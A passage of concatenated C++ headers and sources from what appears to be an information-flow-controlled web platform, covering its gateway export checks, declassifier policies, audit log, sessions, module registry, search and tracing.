  const std::vector<net::LoopStats>& reactor_loop_stats() const noexcept {
    return loop_stats_;
  }

  // The simulated outside world; tests replace it to observe exfiltration
  // attempts.
  void set_external_fetcher(ExternalFetcher fetcher);
  const ExternalFetcher& external_fetcher() const noexcept {
    return external_fetcher_;
  }

  // Scatter/gather query plane, installed by fed::Metasearch when this
  // provider federates; unset (and /fed/search answers 503) otherwise.
  void set_federated_search(FederatedSearchFn fn) {
    federated_search_ = std::move(fn);
  }
  const FederatedSearchFn& federated_search() const noexcept {
    return federated_search_;
  }

  // ---- Conveniences used by tests, benches, and examples --------------------
  util::Status signup(const std::string& user, const std::string& password,
                      const std::string& display_name = {});
  util::Result<std::string> login(const std::string& user,
                                  const std::string& password);

  // Full HTTP round trip through the gateway. Thread-safe: the worker
  // pool calls this concurrently; all provider state is internally
  // locked (see DESIGN.md "Concurrency model").
  net::HttpResponse handle(const net::HttpRequest& request);

  // Serves real TCP clients on config().worker_threads workers. Blocks
  // until the listener is closed (call listener.close() from elsewhere).
  // Returns the number of connections dispatched.
  std::size_t serve(net::TcpListener& listener);

  // The pool behind serve(), created lazily (tests that never serve()
  // spawn no threads).
  os::ThreadPool& worker_pool();
  // Non-spawning view for /metrics: null until worker_pool() has run, so
  // a scrape never starts threads as a side effect.
  os::ThreadPool* pool_if_started() noexcept {
    return pool_ptr_.load(std::memory_order_acquire);
  }

  // Robustness counters for serve(): timeouts, reaped/shed connections,
  // 413/431 rejections (DESIGN.md §12). Exported via /metrics.
  net::ServerStats& server_stats() noexcept { return server_stats_; }
  const net::ServerStats& server_stats() const noexcept {
    return server_stats_;
  }

  // Connection-plane gauges/counters for serve() (DESIGN.md §15):
  // open/idle levels, accepts, timeout closes, resets. Exported via
  // /metrics in both serving modes.
  net::ConnStats& conn_stats() noexcept { return conn_stats_; }
  const net::ConnStats& conn_stats() const noexcept { return conn_stats_; }

  // Builds + dispatches a request in one call; `session` becomes the
  // session cookie when non-empty.
  net::HttpResponse http(net::Method method, const std::string& target,
                         const std::string& body = {},
                         const std::string& session = {});

  // ---- Persistence ------------------------------------------------------------
  // Full provider state: tag registry, accounts, policies, filesystem,
  // and record store. Sessions and the audit log are deliberately
  // ephemeral. Labels round-trip exactly (policies travel with data, §1).
  util::Json snapshot() const;
  util::Status restore(const util::Json& snapshot);
  util::Status save_to_file(const std::string& path) const;
  util::Status load_from_file(const std::string& path);

  // Registers a group declassifier "std/group/<name>"; membership is the
  // user-editable store record groups/<name> {"members": [...]} — the
  // same pattern as the friend-list declassifier (§3.1 pluggability).
  void add_group_declassifier(const std::string& group);

  // ---- Durability (DESIGN.md §13) -----------------------------------------
  // Null when config().durability.enabled is false, or when bringing the
  // plane up failed (durability_status() then carries the error and the
  // provider runs in-memory rather than refusing to start).
  store::DurableStore* durable() noexcept { return durable_.get(); }
  const store::DurableStore::RecoveryStats& recovery_stats() const noexcept {
    return recovery_stats_;
  }
  const util::Status& durability_status() const noexcept {
    return durability_status_;
  }
  // Rotate + snapshot + GC now (the compactor does this on its own
  // cadence; tests and operators force it here).
  util::Status checkpoint();

 private:
  void init_durability();
  // Dispatches a replayed WAL op to the owning component's trusted apply.
  util::Status apply_wal_op(const util::Json& op);

  ProviderConfig config_;
  const util::Clock& clock_;
  os::Kernel kernel_;
  os::FileSystem fs_;
  store::LabeledStore store_;
  UserDirectory users_;
  SessionManager sessions_;
  PolicyStore policies_;
  DeclassifierRegistry declassifiers_;
  ModuleRegistry modules_;
  AuditLog audit_;
  SearchService search_;
  util::MetricsRegistry metrics_;
  TraceBuffer traces_;
  FlightRecorder flight_recorder_;
  // Sized once in the constructor (io_threads never changes after):
  // statusz readers iterate concurrently with loop-thread writers, so the
  // vector must never reallocate.
  std::vector<net::LoopStats> loop_stats_;
  ExternalFetcher external_fetcher_;
  FederatedSearchFn federated_search_;
  std::unique_ptr<Gateway> gateway_;  // after metrics_: caches Counter*s
  // §14 static-enforcement note: the provider itself holds no mutex —
  // its one lazy-init race (the worker pool) goes through std::call_once
  // plus an acquire/release atomic, and every mutable subsystem above
  // synchronizes internally with annotated util::Mutex/SharedMutex locks.
  std::once_flag pool_once_;
  std::unique_ptr<os::ThreadPool> pool_;  // lazy; see worker_pool()
  std::atomic<os::ThreadPool*> pool_ptr_{nullptr};
  net::ServerStats server_stats_;
  net::ConnStats conn_stats_;
  // Durability plane; components hold a MutationLog* into it, and the
  // destructor closes it only after the worker pool has stopped.
  std::unique_ptr<store::DurableStore> durable_;
  store::DurableStore::RecoveryStats recovery_stats_;
  util::Status durability_status_ = util::ok_status();
};

}  // namespace w5::platform
