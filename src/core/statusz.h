// /debug/statusz: one JSON page answering "what is this provider doing
// right now" (DESIGN.md §16) — build info, serving mode, per-loop
// reactor counters, durability plane state, per-peer federation breaker
// states, and trace-buffer health. Aggregation only: every number here
// already exists elsewhere (metrics, stats structs, durability status);
// statusz is the operator's single front door, not a new data source.
//
// DIFC invariant (§3.5): everything on this page is infrastructure
// state — names, counts, states — never user data bytes.
#pragma once

#include "util/json.h"

namespace w5::platform {

class Provider;

util::Json build_statusz(Provider& provider);

}  // namespace w5::platform
