// Audit log: the provider's tamper-evident record of security decisions.
//
// Every export attempt, declassifier verdict, blocked flow, and
// over-quota kill is recorded here. Entries never contain user data
// bytes — only codes, principals, and label names — so the log itself
// cannot become the leak (§3.5 "Debugging").
#pragma once

#include <cstdint>
#include <mutex>
#include <string>
#include <vector>

#include "util/clock.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::platform {

enum class AuditKind : std::uint8_t {
  kExportAllowed,
  kExportBlocked,
  kDeclassifierDecision,
  kFlowDenied,
  kQuotaKill,
  kAuthEvent,
  kAppError,
  kAdmin,
};

std::string to_string(AuditKind kind);

struct AuditEvent {
  util::Micros at = 0;
  AuditKind kind = AuditKind::kAdmin;
  std::string actor;   // user or module id
  std::string subject; // tag name, path, or module
  std::string detail;  // machine-ish explanation (error code etc.)
  std::string trace;   // trace id of the request that recorded it ("" if
                       // recorded outside a traced request)
};

class AuditLog {
 public:
  // Bounded: beyond max_events the oldest half is dropped (a provider
  // would rotate to cold storage; the in-memory log must not grow without
  // bound under attack traffic).
  explicit AuditLog(const util::Clock& clock,
                    std::size_t max_events = 1 << 17)
      : clock_(clock), max_events_(max_events) {}

  AuditLog(const AuditLog&) = delete;
  AuditLog& operator=(const AuditLog&) = delete;

  // Thread-safe: every request worker records here; a plain mutex guards
  // the vector. events() returns a copy — a reference would dangle the
  // moment another worker appends past capacity.
  void record(AuditKind kind, std::string actor, std::string subject,
              std::string detail);

  std::vector<AuditEvent> events() const;
  // Tail query: the newest `limit` events recorded at or after
  // `since_micros`, oldest-first. GET /audit uses this so a browse of a
  // long-lived provider's log copies a page, not the whole vector.
  std::vector<AuditEvent> events(std::size_t limit,
                                 util::Micros since_micros) const;
  std::size_t size() const;  // events currently retained
  // Lifetime total per kind (includes rotated-out events) — O(1), so
  // /stats stays cheap no matter how large the log has grown.
  std::size_t count(AuditKind kind) const;
  std::vector<AuditEvent> for_actor(const std::string& actor) const;

  void clear();
  std::size_t dropped() const;

 private:
  static constexpr std::size_t kKindCount = 8;

  const util::Clock& clock_;
  std::size_t max_events_;
  std::size_t dropped_ W5_GUARDED_BY(mutex_) = 0;
  mutable util::Mutex mutex_{util::lockrank::kAuditLog, "AuditLog::mutex_"};
  std::vector<AuditEvent> events_ W5_GUARDED_BY(mutex_);
  std::size_t counts_by_kind_[kKindCount] W5_GUARDED_BY(mutex_) = {};
};

}  // namespace w5::platform
