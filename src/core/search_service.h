// The provider-side face of §3.2: keeps the module dependency graph in
// sync with the registry, mines popularity from real app invocations, and
// answers user searches (exposed by the gateway at GET /search).
#pragma once

#include <memory>
#include <mutex>
#include <string>

#include "core/module_registry.h"
#include "rank/search.h"
#include "util/json.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::platform {

// Thread-safe: one mutex over the ranking structures. record_use() runs
// on every app request, so the critical sections stay short; reindex is
// rare (module registration). The rank:: types themselves stay
// single-threaded — this wrapper is their only concurrent entry point.
class SearchService {
 public:
  SearchService();

  // Rebuilds the dependency graph + entries from the registry and reruns
  // PageRank. Cheap enough to call after module (de)registration.
  void reindex(const ModuleRegistry& modules);

  // Called by the gateway on every successful app invocation.
  void record_use(const std::string& module_id);

  // An editor vouches for a module (gateway POST /endorse).
  void endorse(const std::string& editor, const std::string& module_id,
               double confidence);

  // JSON results ready for the HTTP surface.
  util::Json search(const std::string& query, std::size_t limit = 10) const;

  // Developer reputations from current module scores (§3.2).
  util::Json developer_reputations() const;

 private:
  mutable util::Mutex mutex_{util::lockrank::kSearchService,
                              "SearchService::mutex_"};
  rank::DependencyGraph graph_ W5_GUARDED_BY(mutex_);
  rank::EditorBoard editors_ W5_GUARDED_BY(mutex_);
  rank::PopularityTracker popularity_ W5_GUARDED_BY(mutex_);
  // CodeSearch holds references to the three structures above; rebuilt
  // whenever the graph is re-derived from the registry.
  std::unique_ptr<rank::CodeSearch> search_ W5_GUARDED_BY(mutex_);
};

}  // namespace w5::platform
