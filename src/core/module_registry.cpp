#include "core/module_registry.h"

#include <mutex>

#include "util/sha256.h"

namespace w5::platform {

util::Status ModuleRegistry::add_locked(Module module) {
  if (module.developer.empty() || module.name.empty() ||
      module.version.empty() || !module.handler) {
    return util::make_error("module.invalid",
                            "developer, name, version, handler required");
  }
  auto& versions = modules_[module.path()];
  for (const auto& existing : versions) {
    if (existing.version == module.version) {
      return util::make_error("module.exists",
                              module.id() + " already registered");
    }
  }
  if (module.fingerprint.empty()) {
    module.fingerprint = util::sha256_hex(
        module.manifest.open_source
            ? module.manifest.source
            : module.id());  // closed source: identity fingerprint
  }
  versions.push_back(std::move(module));
  return util::ok_status();
}

util::Status ModuleRegistry::add(Module module) {
  const util::WriteLock lock(mutex_);
  return add_locked(std::move(module));
}

const Module* ModuleRegistry::resolve_locked(const std::string& developer,
                                             const std::string& name,
                                             const std::string& version) const {
  const auto it = modules_.find(developer + "/" + name);
  if (it == modules_.end() || it->second.empty()) return nullptr;
  if (version.empty()) return &it->second.back();  // latest
  for (const auto& module : it->second)
    if (module.version == version) return &module;
  return nullptr;
}

const Module* ModuleRegistry::resolve(const std::string& developer,
                                      const std::string& name,
                                      const std::string& version) const {
  const util::ReadLock lock(mutex_);
  return resolve_locked(developer, name, version);
}

const Module* ModuleRegistry::resolve_id_locked(
    const std::string& module_id) const {
  const std::size_t at = module_id.find('@');
  const std::size_t slash = module_id.find('/');
  if (slash == std::string::npos) return nullptr;
  const std::string developer = module_id.substr(0, slash);
  const std::string name =
      at == std::string::npos
          ? module_id.substr(slash + 1)
          : module_id.substr(slash + 1, at - slash - 1);
  const std::string version =
      at == std::string::npos ? "" : module_id.substr(at + 1);
  return resolve_locked(developer, name, version);
}

const Module* ModuleRegistry::resolve_id(const std::string& module_id) const {
  const util::ReadLock lock(mutex_);
  return resolve_id_locked(module_id);
}

util::Result<const Module*> ModuleRegistry::fork(
    const std::string& source_module_id, const std::string& new_developer,
    const std::string& new_name, AppHandler replacement_handler) {
  const util::WriteLock lock(mutex_);
  const Module* source = resolve_id_locked(source_module_id);
  if (source == nullptr) {
    return util::make_error("module.not_found", source_module_id);
  }
  if (!source->manifest.open_source) {
    return util::make_error(
        "module.closed",
        source_module_id + " is closed-source and cannot be forked");
  }
  Module fork;
  fork.developer = new_developer;
  fork.name = new_name;
  fork.version = "1.0";
  fork.manifest = source->manifest;
  fork.handler =
      replacement_handler ? std::move(replacement_handler) : source->handler;
  fork.forked_from = source->id();
  // Forks implicitly import their source (feeds the §3.2 dependency graph).
  fork.manifest.imports.push_back(source->id());
  if (auto status = add_locked(std::move(fork)); !status.ok())
    return status.error();
  return resolve_locked(new_developer, new_name, {});
}

std::vector<const Module*> ModuleRegistry::all() const {
  const util::ReadLock lock(mutex_);
  std::vector<const Module*> out;
  for (const auto& [path, versions] : modules_)
    for (const auto& module : versions) out.push_back(&module);
  return out;
}

std::vector<const Module*> ModuleRegistry::versions_of(
    const std::string& developer, const std::string& name) const {
  const util::ReadLock lock(mutex_);
  std::vector<const Module*> out;
  const auto it = modules_.find(developer + "/" + name);
  if (it == modules_.end()) return out;
  for (const auto& module : it->second) out.push_back(&module);
  return out;
}

os::ResourceContainer* ModuleRegistry::container_for(
    const std::string& module_path, const os::ResourceVector& limits) {
  const util::WriteLock lock(mutex_);
  const auto it = containers_.find(module_path);
  if (it != containers_.end()) return it->second.get();
  auto container =
      std::make_unique<os::ResourceContainer>("app:" + module_path, limits);
  os::ResourceContainer* raw = container.get();
  containers_.emplace(module_path, std::move(container));
  return raw;
}

}  // namespace w5::platform
