#include "core/flight_recorder.h"

#include <utility>

namespace w5::platform {

void FlightRecorder::record(Trace trace) {
  if (trace.id.empty()) return;
  const util::MutexLock lock(mutex_);
  for (Trace& held : ring_) {
    if (held.id == trace.id) {
      held = std::move(trace);
      return;
    }
  }
  if (ring_.size() < capacity_) {
    ring_.push_back(std::move(trace));
  } else {
    ring_[next_] = std::move(trace);
    next_ = (next_ + 1) % capacity_;
  }
  ++recorded_total_;
}

util::Json FlightRecorder::to_json() const {
  const util::MutexLock lock(mutex_);
  // Newest-first: entries [next_..end) are older than [0..next_) once the
  // ring has wrapped; before wrapping, push order is oldest-first.
  util::Json entries = util::Json::array();
  const std::size_t n = ring_.size();
  for (std::size_t i = 0; i < n; ++i) {
    // Walk backwards from the slot most recently written.
    const std::size_t slot =
        n < capacity_ ? n - 1 - i : (next_ + capacity_ - 1 - i) % capacity_;
    entries.push_back(ring_[slot].to_json());
  }
  util::Json out = util::Json::object();
  out["capacity"] = util::Json(static_cast<std::int64_t>(capacity_));
  out["recorded_total"] = util::Json(recorded_total_);
  out["entries"] = std::move(entries);
  return out;
}

std::uint64_t FlightRecorder::recorded() const {
  const util::MutexLock lock(mutex_);
  return recorded_total_;
}

std::size_t FlightRecorder::size() const {
  const util::MutexLock lock(mutex_);
  return ring_.size();
}

}  // namespace w5::platform
