// Session management: cookie-token authentication at the front door
// (paper §2: "the provider would read incoming cookies or HTTP data
// fields to authenticate the user").
#pragma once

#include <map>
#include <mutex>
#include <optional>
#include <string>

#include "util/clock.h"
#include "util/result.h"
#include "util/rng.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::platform {

inline constexpr const char* kSessionCookie = "w5session";

// Thread-safe: one mutex guards both the token map and the RNG (even
// validate() writes — it refreshes the sliding expiry — so there is no
// useful read-mostly split).
class SessionManager {
 public:
  SessionManager(const util::Clock& clock, util::Micros ttl_micros,
                 std::uint64_t token_seed = 0x77355735u)
      : clock_(clock), ttl_micros_(ttl_micros), rng_(token_seed) {}

  // Issues a fresh opaque token bound to the user.
  std::string create(const std::string& user_id);

  // Returns the user id when the token is live; refreshes the expiry.
  std::optional<std::string> validate(const std::string& token);

  void revoke(const std::string& token);
  void revoke_all(const std::string& user_id);
  // Drops every session (used after a state restore).
  void revoke_all_everything();

  std::size_t live_sessions() const;

 private:
  struct Session {
    std::string user_id;
    util::Micros expires;
  };

  const util::Clock& clock_;
  util::Micros ttl_micros_;
  mutable util::Mutex mutex_{util::lockrank::kSessionManager,
                              "SessionManager::mutex_"};
  util::Rng rng_ W5_GUARDED_BY(mutex_);
  std::map<std::string, Session> sessions_ W5_GUARDED_BY(mutex_);
};

}  // namespace w5::platform
