// Gateway: the provider's HTTP front door and the security perimeter.
//
// This is the component the paper's §3.1 describes: it authenticates the
// viewer from cookies, launches a fresh labeled process per application
// request, and — critically — applies the export check on the way out:
// every secrecy tag on the response must be approved by the tag-owner's
// chosen declassifier, or the response is replaced by a generic 403
// carrying no application-controlled bytes.
#pragma once

#include <string>
#include <unordered_map>

#include "core/app_context.h"
#include "core/provider.h"
#include "net/router.h"
#include "util/metrics.h"

namespace w5::platform {

class Gateway {
 public:
  explicit Gateway(Provider& provider);

  Gateway(const Gateway&) = delete;
  Gateway& operator=(const Gateway&) = delete;

  net::HttpResponse handle(const net::HttpRequest& request);

  // Export check, factored out so the federation layer can reuse it for
  // peer syncs: may `label` leave the perimeter toward `viewer` at
  // `destination`? On success returns the assembled declassification
  // authority (the minus-capabilities the approving declassifiers
  // exercised).
  util::Result<difc::CapabilitySet> authorize_export(
      const difc::Label& label, const std::string& viewer,
      const std::string& module_id, const std::string& destination,
      std::size_t byte_count);

 private:
  // Authenticated user for this request, "" when anonymous.
  std::string viewer_of(const net::HttpRequest& request);

  // ---- Platform endpoints (provider-written trusted code, §2) -------------
  net::HttpResponse route_signup(const net::HttpRequest& request);
  net::HttpResponse route_login(const net::HttpRequest& request);
  net::HttpResponse route_logout(const net::HttpRequest& request);
  net::HttpResponse route_whoami(const net::HttpRequest& request);
  net::HttpResponse route_get_policy(const net::HttpRequest& request);
  net::HttpResponse route_set_policy(const net::HttpRequest& request);
  net::HttpResponse route_list_apps(const net::HttpRequest& request);
  net::HttpResponse route_put_data(const net::HttpRequest& request,
                                   const net::RouteParams& params);
  net::HttpResponse route_get_data(const net::HttpRequest& request,
                                   const net::RouteParams& params);
  net::HttpResponse route_list_data(const net::HttpRequest& request,
                                    const net::RouteParams& params);
  net::HttpResponse route_delete_data(const net::HttpRequest& request,
                                      const net::RouteParams& params);
  net::HttpResponse route_stats(const net::HttpRequest& request);
  net::HttpResponse route_search(const net::HttpRequest& request);
  // GET /fed/search: federated metasearch via the FederatedSearchFn seam
  // (503 until fed::Metasearch::install() sets it). Marks degraded pages
  // with X-W5-Fed-Partial: 1.
  net::HttpResponse route_fed_search(const net::HttpRequest& request);
  net::HttpResponse route_developers(const net::HttpRequest& request);
  net::HttpResponse route_dev_stats(const net::HttpRequest& request);
  net::HttpResponse route_audit(const net::HttpRequest& request);
  net::HttpResponse route_metrics(const net::HttpRequest& request);
  net::HttpResponse route_statusz(const net::HttpRequest& request);
  net::HttpResponse route_slowlog(const net::HttpRequest& request);
  net::HttpResponse route_trace(const net::HttpRequest& request,
                                const net::RouteParams& params);
  net::HttpResponse route_invite(const net::HttpRequest& request);
  net::HttpResponse route_invitations(const net::HttpRequest& request);
  net::HttpResponse route_accept(const net::HttpRequest& request);
  net::HttpResponse route_endorse(const net::HttpRequest& request);
  net::HttpResponse route_export(const net::HttpRequest& request);
  net::HttpResponse route_delete_account(const net::HttpRequest& request);

  // ---- Application invocation (developer code, untrusted) ------------------
  net::HttpResponse route_app(const net::HttpRequest& request,
                              const net::RouteParams& params);

  // §3.1 integrity protection: module + all imports audited by the user.
  bool module_components_trusted(const Module& module,
                                 const UserPolicy& policy) const;

  // Final perimeter step shared by app responses and /data reads.
  net::HttpResponse export_response(net::HttpResponse response,
                                    const difc::Label& label,
                                    const std::string& viewer,
                                    const std::string& module_id);

  // Copies component-local counters (store shards, flow cache, thread
  // pool, audit, traces) into registry gauges; called per /metrics scrape.
  void refresh_runtime_gauges();

  Provider& provider_;
  net::Router router_;

  // Metrics, resolved once here so the request path updates them with a
  // single relaxed atomic each — no registry lookups while serving.
  util::Counter* requests_total_ = nullptr;
  util::Counter* responses_2xx_ = nullptr;
  util::Counter* responses_3xx_ = nullptr;
  util::Counter* responses_4xx_ = nullptr;
  util::Counter* responses_5xx_ = nullptr;
  util::Counter* declassify_allow_ = nullptr;
  util::Counter* declassify_deny_ = nullptr;
  util::Counter* exports_allowed_ = nullptr;
  util::Counter* exports_blocked_ = nullptr;
  util::Counter* deadline_exceeded_ = nullptr;
  util::Histogram* request_latency_ = nullptr;
  // Per-route hit counters in registration order, indexed by the route
  // index the router reports from dispatch. Built in the constructor and
  // read-only afterwards: a lookup is one bounds check and one array
  // load — no hashing, no allocation, no lock.
  std::vector<util::Counter*> route_hits_;
};

}  // namespace w5::platform
