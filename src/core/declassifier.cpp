#include "core/declassifier.h"
#include "util/lock_ranks.h"

#include <deque>
#include <mutex>
#include <shared_mutex>

namespace w5::platform {

namespace {

class OwnerOnly final : public Declassifier {
 public:
  std::string name() const override { return "owner-only"; }

  util::Status decide(const ExportRequest& request) override {
    if (!request.viewer.empty() && request.viewer == request.data_owner)
      return util::ok_status();
    return util::make_error("declassify.denied",
                            "owner-only: viewer '" + request.viewer +
                                "' is not owner '" + request.data_owner + "'");
  }
};

class FriendList final : public Declassifier {
 public:
  explicit FriendList(FriendLookup is_friend)
      : is_friend_(std::move(is_friend)) {}

  std::string name() const override { return "friend-list"; }

  util::Status decide(const ExportRequest& request) override {
    if (!request.viewer.empty() && request.viewer == request.data_owner)
      return util::ok_status();
    if (!request.viewer.empty() &&
        is_friend_(request.data_owner, request.viewer)) {
      return util::ok_status();
    }
    return util::make_error("declassify.denied",
                            "friend-list: '" + request.viewer +
                                "' is not a friend of '" +
                                request.data_owner + "'");
  }

 private:
  FriendLookup is_friend_;
};

class Group final : public Declassifier {
 public:
  Group(std::string group, GroupLookup is_member)
      : group_(std::move(group)), is_member_(std::move(is_member)) {}

  std::string name() const override { return "group:" + group_; }

  util::Status decide(const ExportRequest& request) override {
    if (!request.viewer.empty() && request.viewer == request.data_owner)
      return util::ok_status();
    if (!request.viewer.empty() && is_member_(group_, request.viewer))
      return util::ok_status();
    return util::make_error("declassify.denied",
                            "group: '" + request.viewer + "' not in '" +
                                group_ + "'");
  }

 private:
  std::string group_;
  GroupLookup is_member_;
};

class Public final : public Declassifier {
 public:
  std::string name() const override { return "public"; }
  util::Status decide(const ExportRequest&) override {
    return util::ok_status();
  }
};

class RateLimited final : public Declassifier {
 public:
  RateLimited(std::unique_ptr<Declassifier> inner, const util::Clock& clock,
              std::size_t max_exports, util::Micros window)
      : inner_(std::move(inner)),
        clock_(clock),
        max_exports_(max_exports),
        window_(window) {}

  std::string name() const override {
    return "rate-limited(" + inner_->name() + ")";
  }

  util::Status decide(const ExportRequest& request) override {
    if (auto verdict = inner_->decide(request); !verdict.ok()) return verdict;
    // The sliding window is shared mutable state across request workers.
    const util::MutexLock lock(mutex_);
    auto& history = history_[request.viewer];
    const util::Micros now = clock_.now();
    while (!history.empty() && history.front() + window_ <= now)
      history.pop_front();
    if (history.size() >= max_exports_) {
      return util::make_error(
          "declassify.rate_limited",
          "viewer '" + request.viewer + "' exceeded " +
              std::to_string(max_exports_) + " exports per window");
    }
    history.push_back(now);
    return util::ok_status();
  }

 private:
  std::unique_ptr<Declassifier> inner_;
  const util::Clock& clock_;
  std::size_t max_exports_;
  util::Micros window_;
  util::Mutex mutex_{util::lockrank::kDeclassifierRateWindow,
                     "RateLimited::mutex_"};
  std::map<std::string, std::deque<util::Micros>> history_
      W5_GUARDED_BY(mutex_);
};

class KAggregate final : public Declassifier {
 public:
  explicit KAggregate(std::size_t k) : k_(k) {}

  std::string name() const override {
    return "k-aggregate(" + std::to_string(k_) + ")";
  }

  util::Status decide(const ExportRequest& request) override {
    if (!request.viewer.empty() && request.viewer == request.data_owner)
      return util::ok_status();
    if (request.distinct_owner_count >= k_) return util::ok_status();
    return util::make_error(
        "declassify.denied",
        "k-aggregate: " + std::to_string(request.distinct_owner_count) +
            " owners < k=" + std::to_string(k_));
  }

 private:
  std::size_t k_;
};

}  // namespace

std::unique_ptr<Declassifier> make_owner_only() {
  return std::make_unique<OwnerOnly>();
}

std::unique_ptr<Declassifier> make_friend_list(FriendLookup is_friend) {
  return std::make_unique<FriendList>(std::move(is_friend));
}

std::unique_ptr<Declassifier> make_group(std::string group,
                                         GroupLookup is_member) {
  return std::make_unique<Group>(std::move(group), std::move(is_member));
}

std::unique_ptr<Declassifier> make_public() {
  return std::make_unique<Public>();
}

std::unique_ptr<Declassifier> make_rate_limited(
    std::unique_ptr<Declassifier> inner, const util::Clock& clock,
    std::size_t max_exports, util::Micros window_micros) {
  return std::make_unique<RateLimited>(std::move(inner), clock, max_exports,
                                       window_micros);
}

std::unique_ptr<Declassifier> make_k_aggregate(std::size_t k) {
  return std::make_unique<KAggregate>(k);
}

std::string DeclassifierRegistry::add(
    std::string id, std::unique_ptr<Declassifier> declassifier) {
  const util::WriteLock lock(mutex_);
  declassifiers_[id] = std::move(declassifier);
  return id;
}

Declassifier* DeclassifierRegistry::find(const std::string& id) const {
  const util::ReadLock lock(mutex_);
  const auto it = declassifiers_.find(id);
  return it == declassifiers_.end() ? nullptr : it->second.get();
}

std::vector<std::string> DeclassifierRegistry::ids() const {
  const util::ReadLock lock(mutex_);
  std::vector<std::string> out;
  for (const auto& [id, declassifier] : declassifiers_) out.push_back(id);
  return out;
}

}  // namespace w5::platform
