// Declassifiers: the user-chosen agents that poke holes in the security
// perimeter (paper §3.1).
//
// Two defining characteristics, straight from the paper:
//   1. Data-agnostic — a declassifier decides based on (viewer, owner,
//      request context), not on the bytes being exported, so one
//      declassifier serves photos, blogs, and friend lists alike.
//   2. Pluggable and small — factored out of applications, individually
//      auditable, granted exactly one privilege: the owner's sec(u)-.
//
// The gateway consults the owner's authorized declassifier for every
// secrecy tag on an outbound response; only an Allow verdict contributes
// sec(u)- to the export check. No verdict, no capability, no export.
#pragma once

#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <shared_mutex>
#include <string>
#include <vector>

#include "difc/tag.h"
#include "net/http.h"
#include "util/clock.h"
#include "util/result.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::platform {

struct ExportRequest {
  std::string viewer;       // authenticated requesting user; "" = anonymous
  std::string data_owner;   // user whose tag guards the data
  difc::Tag tag;            // the tag being declassified
  std::string module_id;    // app that produced the response
  std::string destination;  // "browser", "peer:providerB", ...
  std::size_t byte_count = 0;  // size of the export (not its content)
  // Number of distinct owners whose tags ride on this response; the
  // gateway computes it from the label, never from the bytes.
  std::size_t distinct_owner_count = 1;
};

class Declassifier {
 public:
  virtual ~Declassifier() = default;

  virtual std::string name() const = 0;

  // Allow or deny; the Error explains a denial for the audit log.
  virtual util::Status decide(const ExportRequest& request) = 0;
};

// ---- Standard library of declassifiers -------------------------------------

// The boilerplate policy (§3.1): "Bob's data can only leave the security
// perimeter if destined for Bob's browser."
std::unique_ptr<Declassifier> make_owner_only();

// Social policy: export to the owner and to users on the owner's friend
// list. The friend lookup is injected so the declassifier stays
// data-agnostic (it never sees the exported bytes).
using FriendLookup =
    std::function<bool(const std::string& owner, const std::string& viewer)>;
std::unique_ptr<Declassifier> make_friend_list(FriendLookup is_friend);

// Membership policy: export to members of a named group.
using GroupLookup =
    std::function<bool(const std::string& group, const std::string& viewer)>;
std::unique_ptr<Declassifier> make_group(std::string group,
                                         GroupLookup is_member);

// Public: the owner explicitly opted this tag's data into the open web.
std::unique_ptr<Declassifier> make_public();

// Rate-limited wrapper: at most N exports per viewer per window — blunts
// bulk scraping even through an otherwise-permissive policy (§3.5 covert
// channels: bounds the leak rate).
std::unique_ptr<Declassifier> make_rate_limited(
    std::unique_ptr<Declassifier> inner, const util::Clock& clock,
    std::size_t max_exports, util::Micros window_micros);

// Threshold/aggregate policy: allows export only when the response is
// declared to aggregate at least k distinct owners' data (the gateway
// passes the count via the request); used by recommendation digests.
std::unique_ptr<Declassifier> make_k_aggregate(std::size_t k);

// ---- Registry ---------------------------------------------------------------

// Thread-safe registry. Declassifier* from find() stays valid for the
// registry's lifetime unless the id is re-registered; implementations
// with mutable state (e.g. the rate limiter's window) synchronize
// internally.
class DeclassifierRegistry {
 public:
  // Registers under a stable id (e.g. "std/owner-only"); returns the id.
  std::string add(std::string id, std::unique_ptr<Declassifier> declassifier);

  Declassifier* find(const std::string& id) const;
  std::vector<std::string> ids() const;

 private:
  mutable util::SharedMutex mutex_{util::lockrank::kDeclassifierRegistry,
                                    "DeclassifierRegistry::mutex_"};
  std::map<std::string, std::unique_ptr<Declassifier>> declassifiers_
      W5_GUARDED_BY(mutex_);
};

}  // namespace w5::platform
