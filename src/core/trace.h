// Request tracing: per-request trace ids, named spans, and a bounded ring
// of recent traces (DESIGN.md §11).
//
// The gateway opens a RequestContext per request; it installs itself as
// the thread's current context so any code on the request path can record
// a span without plumbing a handle through every signature (the same
// trick lets AuditLog stamp events with the live trace id, so audit
// entries and traces cross-reference). The id is echoed to the client in
// an X-W5-Trace response header and resolvable at GET /trace/:id.
//
// §3.5 inheritance: spans carry *names* (route patterns, "flow-check",
// "store.get"), tag/module names, and codes — never request or record
// bytes. A client-supplied X-W5-Trace value is accepted only when it
// looks like a trace id (short, [0-9a-zA-Z_-]), so the header cannot be
// used to smuggle arbitrary bytes into telemetry output.
#pragma once

#include <atomic>
#include <cstdint>
#include <mutex>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "util/clock.h"
#include "util/thread_annotations.h"
#include "util/json.h"

namespace w5::platform {

struct TraceSpan {
  // Span names come from the fixed taxonomy (DESIGN.md §11) and are
  // always string literals, so a view is safe and keeps span recording
  // free of a string construction.
  std::string_view name;
  util::Micros start = 0;     // absolute steady-clock micros
  util::Micros duration = 0;
  std::string note;           // codes / module ids / tag names only
};

struct Trace {
  std::string id;
  // Matched route *pattern*, not the raw target. A view, not a copy: the
  // gateway points it at the router's stored pattern text (stable for the
  // provider's lifetime), so recording a trace never allocates for the
  // route. Anything else passed to set_route must outlive the buffer.
  std::string_view route;
  int status = 0;
  util::Micros started = 0;
  util::Micros duration = 0;
  std::vector<TraceSpan> spans;

  util::Json to_json() const;
};

// Bounded ring of completed traces; the newest kDefaultCapacity requests
// are resolvable, older ones age out. One per Provider.
//
// Recording is on every request's tail, so there is no global lock:
// a writer claims its slot with one atomic fetch_add (FIFO eviction by
// construction) and takes only that slot's mutex for the swap. Writers
// on different slots never contend; /trace/:id lookups walk the slots
// one lock at a time.
class TraceBuffer {
 public:
  static constexpr std::size_t kDefaultCapacity = 256;

  explicit TraceBuffer(std::size_t capacity = kDefaultCapacity);

  TraceBuffer(const TraceBuffer&) = delete;
  TraceBuffer& operator=(const TraceBuffer&) = delete;

